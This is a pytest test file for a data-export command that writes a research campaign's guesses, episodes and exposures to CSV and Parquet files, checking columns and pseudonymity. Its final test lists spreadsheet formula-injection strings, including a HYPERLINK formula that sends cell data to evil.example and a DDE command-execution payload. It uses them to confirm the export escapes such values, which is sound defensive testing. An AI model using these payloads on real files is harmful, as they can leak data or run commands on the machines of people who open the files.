"""`imitable export`: the record as the contract says, complete, pseudonymous, and all at once."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from sqlalchemy import select

from imitable.commands.export import export
from imitable.errors import TablesError
from imitable.game.views import Questions, Round
from imitable.store import open_store, tables
from imitable.testing import invented_campaign
from imitable_aggregation import scoring
from playing import Table

GUESSES = [
    "annotator_id",
    "target_id",
    "trial",
    "phase",
    "guess",
    "truth",
    "episode_id",
    "sitting_id",
    "round_id",
    "item_id",
    "level",
    "l_ref",
    "feedback",
    "activation",
    "weight",
    "seconds",
    "answered_at",
    "campaign_id",
    "platform",
    "model_id",
    "kind",
    "site",
    "unit",
    "selected_by",
]


@pytest.fixture
def played(tmp_path: Path, either_store: str) -> Iterator[Callable[..., Table]]:
    """A campaign that two people finished and a third began."""
    tables_set: list[Table] = []

    def play(**settings: Any) -> Table:
        folder = invented_campaign(tmp_path / "campaign", targets=3, practice=2, held_out=2, **settings)
        here = Table(folder, open_store(folder), 3)
        tables_set.append(here)
        for link in (0, 1):
            here.clock.move(seconds=3)
            here.play(here.sit(link), guess=str(3 + link))
        token = here.sit(2)
        asked = here.game.view(token)
        assert isinstance(asked, Round)
        here.game.guess(token, asked.round_id, "5")
        return here

    yield play
    for here in tables_set:
        here.store.close()


def test_every_committed_guess_is_one_row_with_the_contracts_columns(
    played: Callable[..., Table], tmp_path: Path
) -> None:
    here = played()
    done = export(here.folder.path, out=tmp_path / "out")
    frame = pd.read_csv(tmp_path / "out" / "guesses.csv")
    assert list(frame.columns[: len(GUESSES)]) == GUESSES
    assert len(frame) == done.guesses == 2 * 2 * 4 + 1
    assert not frame.duplicated(["episode_id", "trial"]).any()
    assert set(frame["phase"]) == {"practice", "held_out"}
    assert (frame["feedback"] == (frame["phase"] == "practice")).all()
    assert frame["answered_at"].str.fullmatch(r"2026-11-23T12:00:\d\d\.\d{6}Z").all()
    truths = {row.item_id: row for row in here.rows(select(tables.truths))}
    for row in frame.itertuples():
        assert row.truth == truths[row.item_id].truth
        assert row.activation == truths[row.item_id].activation
    twin = pd.read_parquet(tmp_path / "out" / "guesses.parquet")
    assert list(twin.columns) == list(frame.columns)
    assert (twin["guess"].to_numpy() == frame["guess"].to_numpy()).all()


def test_an_unfinished_episode_stays_in_the_files(played: Callable[..., Table], tmp_path: Path) -> None:
    here = played()
    export(here.folder.path, out=tmp_path / "out")
    episodes = pd.read_csv(tmp_path / "out" / "episodes_played.csv")
    assert episodes["completed"].tolist().count(False) == 1
    assert set(episodes["assigned_by"]) == {"uniform", "most_places"}
    assert episodes["assignment_probability"].between(0, 1).all()
    assert episodes.loc[episodes["completed"], "fun"].eq(4).all()
    assert "explanation" not in episodes


def test_free_text_goes_along_only_when_asked_for(played: Callable[..., Table], tmp_path: Path) -> None:
    here = played()
    export(here.folder.path, out=tmp_path / "out", with_text=True)
    episodes = pd.read_csv(tmp_path / "out" / "episodes_played.csv")
    assert set(episodes["explanation"].dropna()) == {"trees"}


def test_no_platform_id_key_or_link_is_in_any_export(played: Callable[..., Table], tmp_path: Path) -> None:
    here = played()
    export(here.folder.path, out=tmp_path / "out", with_text=True)
    everything = b"".join(path.read_bytes() for path in (tmp_path / "out").iterdir())
    assert b"link-0" not in everything
    assert here.folder.key.hex().encode() not in everything
    assert not any(link.code.encode() in everything for link in here.links)


def test_truths_of_rounds_not_yet_committed_are_not_exported(played: Callable[..., Table], tmp_path: Path) -> None:
    here = played()
    export(here.folder.path, out=tmp_path / "out")
    frame = pd.read_csv(tmp_path / "out" / "guesses.csv")
    assert len(frame) < len(here.rows(select(tables.rounds)))


def test_targets_carry_their_scale_and_reference_loss(played: Callable[..., Table], tmp_path: Path) -> None:
    here = played()
    export(here.folder.path, out=tmp_path / "out")
    targets = pd.read_csv(tmp_path / "out" / "targets.csv")
    wanted = [
        "target_id",
        "model_id",
        "kind",
        "site",
        "unit",
        "polarity",
        "selected_by",
        "l_ref",
        "scale_s",
        "scale_m",
        "file_hash",
    ]
    assert list(targets.columns[: len(wanted)]) == wanted
    held_out = here.rows(
        select(tables.items.c.target_id, tables.truths.c.truth)
        .join(tables.truths, tables.truths.c.item_id == tables.items.c.item_id)
        .where(tables.items.c.split == "held_out")
    )
    for row in targets.itertuples():
        assert row.l_ref == scoring.l_ref([truth for target, truth in held_out if target == row.target_id])


def test_the_data_package_describes_every_file(played: Callable[..., Table], tmp_path: Path) -> None:
    here = played()
    export(here.folder.path, out=tmp_path / "out")
    package = json.loads((tmp_path / "out" / "datapackage.json").read_text(encoding="utf-8"))
    paths = {resource["path"] for resource in package["resources"]}
    assert {"guesses.csv", "guesses.parquet", "targets.csv", "episodes_played.csv"} <= paths


def test_a_campaign_nobody_played_exports_empty_tables(tmp_path: Path) -> None:
    invented_campaign(tmp_path / "campaign")
    done = export(tmp_path / "campaign", out=tmp_path / "out")
    assert (done.guesses, done.episodes, done.annotators) == (0, 0, 0)
    assert list(pd.read_csv(tmp_path / "out" / "guesses.csv").columns[: len(GUESSES)]) == GUESSES


def test_a_folder_of_somebody_elses_files_is_not_touched(tmp_path: Path) -> None:
    invented_campaign(tmp_path / "campaign")
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.txt").write_text("years of work", encoding="utf-8")
    with pytest.raises(TablesError, match="mine"):
        export(tmp_path / "campaign", out=out)
    assert os.listdir(out) == ["thesis.txt"]


def test_the_record_says_who_was_shown_which_item_and_when_its_truth_was_revealed(
    played: Callable[..., Table], tmp_path: Path
) -> None:
    here = played()
    guessed = here.rows(select(tables.guesses.c.episode_id))
    export(here.folder.path, out=tmp_path / "out")
    guesses = pd.read_csv(tmp_path / "out" / "guesses.csv")
    shown = pd.read_csv(tmp_path / "out" / "exposures.csv")
    assert len(shown) == len(here.rows(select(tables.rounds).where(tables.rounds.c.shown_at.is_not(None))))
    assert len(shown) >= len(guessed)
    held_out = shown["phase"] == "held_out"
    assert shown.loc[held_out, "revealed_at"].isna().all()
    place = ["annotator_id", "target_id", "item_id"]
    assert not shown.duplicated(place).any()
    both = shown.merge(guesses, on=place, suffixes=("", "_guessed"))
    assert len(both) == len(guesses)
    practice = both[both["phase"] == "practice"]
    assert (practice["revealed_at"] == practice["answered_at"]).all()
    assert (both["shown_at"] <= both["answered_at"]).all()


def test_an_item_shown_and_not_answered_yet_is_in_the_record_unrevealed(tmp_path: Path) -> None:
    folder = invented_campaign(tmp_path / "campaign")
    here = Table(folder, open_store(folder), 1)
    here.game.view(here.sit())
    export(folder.path, out=tmp_path / "out")
    [row] = pd.read_csv(tmp_path / "out" / "exposures.csv").to_dict("records")
    assert (row["trial"], row["phase"], pd.isna(row["revealed_at"])) == (1, "practice", True)
    here.store.close()


def test_an_explanation_that_is_a_formula_is_text_in_a_spreadsheet(tmp_path: Path) -> None:
    folder = invented_campaign(tmp_path / "campaign", practice=1, held_out=0, episodes=1, targets=2)
    here = Table(folder, open_store(folder), 5)
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"look")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        '@SUM(1+1)\n"quoted", and, commas',
        "\uff1d1+1",
    ]
    for link, text in enumerate(hostile):
        token = here.sit(link)
        asked = here.game.view(token)
        assert isinstance(asked, Round)
        here.game.guess(token, asked.round_id, "5")
        after = here.game.view(token)
        assert isinstance(after, Questions)
        here.game.answer(token, after.episode_id, fun="1", interest="1", explanation=text)
    export(folder.path, out=tmp_path / "out", with_text=True)
    cells = pd.read_csv(tmp_path / "out" / "episodes_played.csv")["explanation"]
    assert sorted(cells) == sorted(f"'{text}" for text in hostile)
    here.store.close()
